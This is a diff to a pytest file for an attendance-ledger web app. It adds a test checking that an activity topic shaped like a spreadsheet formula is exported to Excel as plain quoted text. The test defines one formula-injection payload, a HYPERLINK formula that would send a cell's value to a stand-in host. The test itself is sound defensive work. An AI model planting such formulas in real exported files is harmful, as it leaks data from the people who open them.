@@ -3,12 +3,13 @@
 from __future__ import annotations
 
 import io
+import zipfile
 from datetime import datetime
 
 import pytest
 from openpyxl import load_workbook
 
-from tests.fixtures.activities import NASTY, create_activity, fire, teacher_ids
+from tests.fixtures.activities import NASTY, create_activity, fire, record_all, teacher_ids
 
 
 @pytest.fixture
@@ -91,3 +92,22 @@ def test_ledger_workbook_has_a_summary_and_details(client, login, year):
     assert len(lines) == 6  # four in the first activity, two in the second
     assert {line[9] for line in lines} == {"出席", "迟到", "请假", "缺席"}
     assert r.content == client.get("/api/ledger", headers=login("lead-a"), params={"year": year}).content
+
+
+LEAK = '=HYPERLINK("http://x/?leak="&C2,"点击")'
+
+
+def test_a_topic_that_looks_like_a_formula_is_text_in_the_workbook(client, world, login, runtime, semester):
+    h = login("lead-a")
+    activity = create_activity(client, login, runtime, world, topic=LEAK, credit_hours=1)
+    activity = fire(client, h, fire(client, h, activity, "announce").json(), "hold").json()
+    assert record_all(client, h, activity).status_code == 200
+    year = datetime.fromisoformat(activity["starts_at"]).year
+    r = client.get("/api/ledger", headers=h, params={"year": year})
+    assert r.status_code == 200
+    with zipfile.ZipFile(io.BytesIO(r.content)) as archive:
+        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
+    detail = load_workbook(io.BytesIO(r.content)).worksheets[1]
+    cells = [row[5] for row in detail.iter_rows(min_row=2) if row[5].value == LEAK]
+    assert cells and all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
